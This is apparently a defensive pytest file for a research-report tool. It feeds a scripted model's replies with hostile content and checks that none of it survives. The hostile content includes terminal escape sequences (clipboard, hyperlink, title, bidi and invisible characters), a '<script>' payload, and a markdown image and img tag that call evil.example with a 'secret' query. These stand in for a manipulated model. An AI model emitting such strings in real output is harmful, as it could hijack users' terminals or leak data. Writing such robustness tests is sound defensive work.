"""A model that was talked into doing harm, or a server that says odd things: nothing of it is shown, no run ends."""

import json
import re
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from deep_research.events import ReportPiece
from tests.model.harness import PLAN, Scene, assert_presentable, citing, of_step, playing, writing
from tests.support.scripted_provider import UNLIMITED
from tests.support.scripted_replies import Call, Reply, Request
from tests.support.scripted_researcher import ScriptedResearcher, step_of

ESCAPES = (
    *(f"\x1b]{what}PWNED{end}" for what in ("0;", "2;", "8;;http://evil.example/", "9;", "52;c;", "1337;File=") for end in ("\x07", "\x1b\\")),
    *(f"{begin}PWNED\x1b\\" for begin in ("\x1bP", "\x1b_", "\x1b^", "\x1bX")),
    *(f"{begin}PWNED\x9c" for begin in ("\x90", "\x98", "\x9d0;", "\x9e", "\x9f")),
    *(f"{begin}{code}" for begin in ("\x1b[", "\x9b") for code in ("2J", "31m", "?25l", "1;1H", "6n", "21t")),
    *("\x1bc", "\x1b7", "\x1b(0", "\x1b#8"),
    *"\x00\x07\x08\x0b\x0c\x0e\x0f\x7f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    *"\u061c\u200b\u200e\u200f\u2060\ufeff\U000e0041",
)  # fmt: skip
"""Titles, links, clipboards and files of terminals, colours and movements, device strings, and what does not show."""
EVIL = "".join(ESCAPES)
_RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2060\ufeff\u202a-\u202e\u2066-\u2069\U000e0041]|\\\\u00(?:1b|07|9b)|\\\\u202e|PWNED"
)


def _everywhere(value: Any, change: Callable[[str], str]) -> Any:
    if isinstance(value, dict):
        return {key: _everywhere(inner, change) for key, inner in value.items()}
    if isinstance(value, list | tuple):
        return [_everywhere(inner, change) for inner in value]
    return change(value) if isinstance(value, str) and " " in value else value


class _Changed:
    """The scripted researcher, with every reply changed."""

    def __init__(self, change: Callable[[str, Reply], Reply]) -> None:
        self._usual = ScriptedResearcher(sections=PLAN, sentences=4)
        self._change = change

    def __call__(self, request: Request) -> Reply:
        return self._change(step_of(request), self._usual(request))


def _shown(home: Path) -> str:
    paths = [path for path in home.rglob("*") if path.suffix in (".md", ".json", ".jsonl")]
    return "\n".join(path.read_text("utf-8") for path in paths)


def test_terminal_codes_of_a_model_are_nowhere(scene: Scene) -> None:
    texts: list[str] = []

    def spoil(text: str) -> str:
        texts.append(text)
        return EVIL + text + EVIL

    def evil(_step: str, reply: Reply) -> Reply:
        if reply.text.startswith("{"):
            return replace(reply, text=json.dumps(_everywhere(json.loads(reply.text), spoil)))
        return replace(reply, data=_everywhere(reply.data, spoil), text=_everywhere(reply.text, spoil))

    ran = scene.research(_Changed(evil))
    assert_presentable(ran)
    assert ran.report.answered
    assert len(texts) > 30
    assert _RAW.search(_shown(scene.folder / "home")) is None
    told = [event.model_dump_json() for event in ran.events if not isinstance(event, ReportPiece)]
    # Of a code that two pieces of a stream share, its harmless letters may be left.
    told += [event.text.replace("PWNED", "") for event in ran.of(ReportPiece)]
    assert not any(_RAW.search(text) for text in told)


def test_a_model_that_was_talked_into_harm_brings_no_link_and_no_markup_that_acts(scene: Scene) -> None:
    evil = (
        '<script>alert(1)</script> ![x](https://evil.example/?q=secret) <img src="https://evil.example/p.gif"> [s1p1]'
    )

    def lying(step: str, reply: Reply) -> Reply:
        if step == "plan":
            sections = [{**row, "title": f"{row['title']} {evil}"} for row in reply.data["sections"]]  # type: ignore[index]
            return replace(reply, data={**reply.data, "title": evil, "sections": sections})  # type: ignore[dict-item]
        if step == "write":
            return replace(reply, text=f"{reply.text}\n\n{evil}\n\n## {evil}\n\n- {evil}")
        if step == "revise":
            said = json.loads(reply.text)
            return replace(reply, text=json.dumps({**said, "edits": [{**edit, "new": evil} for edit in said["edits"]]}))
        return reply

    report = scene.research(_Changed(lying)).report
    assert report.edits
    for shown in (report.report, report.title):
        assert not re.search(r"(?<![`\\])<(?:script|img)", shown)
        assert not re.search(r"(?<!\\)\]\(https", shown)


@pytest.mark.parametrize(
    "odd",
    [
        (
            lambda reply: replace(reply, prompt_tokens=10**30, completion_tokens=10**30),
            lambda reply: replace(reply, prompt_tokens=-(10**30)),
        ),
        (
            lambda reply: replace(reply, data=_everywhere(reply.data, lambda text: f"{text}\udfff")),
            lambda reply: replace(reply, reasoning="\udfff\ud800"),
        ),
        (
            lambda reply: replace(reply, data=None, text='{"a":' * 100_000),
            lambda reply: replace(reply, data=None, text="[" * 100_000),
            lambda reply: replace(reply, data=None, text='{"a":' * 400 + "1" + "}" * 400),
        ),
        (lambda reply: replace(
            reply, data=None, tool_calls=(Call("search", '{"query":' + "[" * 100_000), Call("search", '{"query":' * 400 + "1" + "}" * 400))
        ),),
    ],
    ids=["usage", "signs", "data", "calls"],
)  # fmt: skip
def test_odd_answers_end_no_run(odd: tuple[Callable[[Reply], Reply], ...], scene: Scene) -> None:
    asked = 0

    def sometimes(_step: str, reply: Reply) -> Reply:
        nonlocal asked
        asked += 1
        return odd[asked // 2 % len(odd)](reply) if asked % 2 else reply

    ran = scene.research(_Changed(sometimes))
    assert_presentable(ran)
    assert ran.folder.load().status == "finished"


def test_a_text_without_end_is_gone_on_with_no_further_and_bounded(scene: Scene) -> None:
    tests = [f"{n} of {n * 7919 % 10_007} gave {n * 104_729 % 9_973} rpm" for n in range(11_500)]
    said = "".join(f"Tests {', '.join(tests[n : n + 50])} [s1p1]. " for n in range(0, len(tests), 50))
    endless = Reply(text=said, finish_reason="length", fault=UNLIMITED)
    report = scene.quickly(playing(write=lambda _: endless), depth="brief").report
    assert len(of_step(scene.provider, "write")) == 1
    assert len(report.report) < 350_000


def test_of_a_list_without_end_the_start_counts(scene: Scene) -> None:
    problem = {"quote": "", "verdict": "unclear", "problem": "again", "evidence": "", "passages": []}
    many = Reply(data={"problems": [problem] * 1_500, "parts": []}, fault=UNLIMITED)
    report = scene.quickly(playing(examine=lambda _: many)).report
    assert 0 < len([one for one in report.problems if one.problem == "again"]) <= 200


def test_hundreds_of_contradicted_statements_are_told_in_one_pass(scene: Scene) -> None:
    def against_all(request: Request) -> Reply:
        count = len(re.findall(r"^\d+\. ", request["messages"][-1]["text"].partition("The statements")[2], re.M))
        wrong = [
            {"number": n, "verdict": "contradicted", "problem": "no", "evidence": "", "passages": []}
            for n in range(1, count + 1)
        ]
        return Reply(data={"problems": wrong, "reckonings": [], "checked": count})

    many = "\n\n".join(f"Sentence {n} says that it turns at {n} rpm. [{{Alpha}}]" for n in range(600))
    script = playing(
        write=writing(f"# Engines\n\nI would wait.\n\n{many}"),
        judge=against_all,
        revise=lambda _: Reply(data={"edits": [], "rejected": []}),
    )
    began = time.process_time()
    report = scene.quickly(script, depth="brief").report
    assert time.process_time() - began < 8, "it took 16 s when the text was taken apart anew for each"
    assert len([gap for gap in report.gaps if gap.codes == ("contradicted",)]) == 600
    assert "I would wait." in report.report
    assert "Sentence 77" in report.report.partition("##")[0]


@pytest.mark.parametrize("again", [True, False], ids=["always", "once"])
def test_a_writer_that_says_one_sentence_without_end_is_asked_once_more_and_that_is_told(
    scene: Scene, *, again: bool
) -> None:
    usual, asked = ScriptedResearcher(sections=PLAN, sentences=4), 0

    def write(request: Request) -> Reply:
        nonlocal asked
        asked += 1
        reply = usual(request)
        endless = citing(request, f"{reply.text}\n\n" + "The Alpha engine turns at 3000 rpm [{Alpha}]. " * 300)
        return Reply(text=endless) if again or asked == 1 else reply

    ran = scene.research(playing(write=write))
    assert asked == 2
    assert ran.report.report.count("turns at 3000 rpm") < 20
    told = [gap for gap in ran.report.gaps if gap.what == "report"]
    assert ["again and again" in gap.why for gap in told] == [True] * again
    assert ran.report.answered
